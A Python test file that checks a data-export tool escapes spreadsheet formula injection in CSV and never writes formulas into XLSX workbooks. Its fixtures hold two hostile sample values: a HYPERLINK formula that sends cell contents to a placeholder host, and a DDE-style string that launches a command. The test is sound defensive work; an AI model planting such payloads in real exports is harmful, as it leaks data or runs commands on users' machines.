"""Formula injection: text that a spreadsheet would run (= + - @, tab, CR) is neutralised in CSV and is
never a formula in a workbook — for a job title and for names that come from the warehouse."""

from __future__ import annotations

import csv
import io
import zipfile

import duckdb
import openpyxl
import pytest

from exports import run as export_run
from lvzhi.sheets import neutralise
from lvzhi import warehouse

EVIL_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"点击查看")'
EVIL_SCOPE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize("text, shown", [
    ("=1+1", "'=1+1"), ("+86 138", "'+86 138"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("建议答复率", "建议答复率"), ("a=b", "a=b"), ("", ""), (None, None)])
def test_neutralise(text, shown):
    assert neutralise(text) == shown


@pytest.fixture
def poisoned_home(export_home):
    """The published copy with an indicator name and the region's name that start like formulas."""
    con = duckdb.connect(str(warehouse.current_published(export_home)))
    try:
        con.execute("update marts.indicator_values set indicator_name = ? where indicator_id = 'suggestion_reply_rate'",
                    [EVIL_NAME])
        con.execute("update marts.indicator_values set scope_name = ? where scope_level = 'region'", [EVIL_SCOPE])
    finally:
        con.close()
    return export_home


def test_formula_like_text_is_neutralised_in_csv_and_plain_text_in_xlsx(poisoned_home, job):
    spec = job("evil", title="=1+2 月报", scope=["region"], formats=["csv", "xlsx"])
    result = export_run.run_job(poisoned_home, spec)
    csv_file, xlsx_file = (result.folder / f["name"] for f in result.manifest["files"])

    rows = list(csv.DictReader(io.StringIO(csv_file.read_bytes().decode("utf-8-sig"))))
    evil = [r for r in rows if r["指标编号"] == "suggestion_reply_rate"]
    assert evil and all(r["指标"] == "'" + EVIL_NAME for r in evil)
    region = [r for r in rows if r["范围层级"] == "region"]
    assert region and all(r["范围"] == "'" + EVIL_SCOPE for r in region)
    assert not any(value.startswith(("=", "+", "@")) for r in rows for value in r.values() if value)

    book = openpyxl.load_workbook(xlsx_file)
    title = book["封面"]["A1"]
    assert title.value == "=1+2 月报" and title.data_type == "s"
    cells = [row[0] for row in book["建议办理"].iter_rows(min_row=2) if row[0].value == EVIL_NAME]
    assert cells and all(cell.data_type == "s" for cell in cells)
    with zipfile.ZipFile(xlsx_file) as archive:  # no formula anywhere in the workbook
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in archive.read(name) for name in sheets)
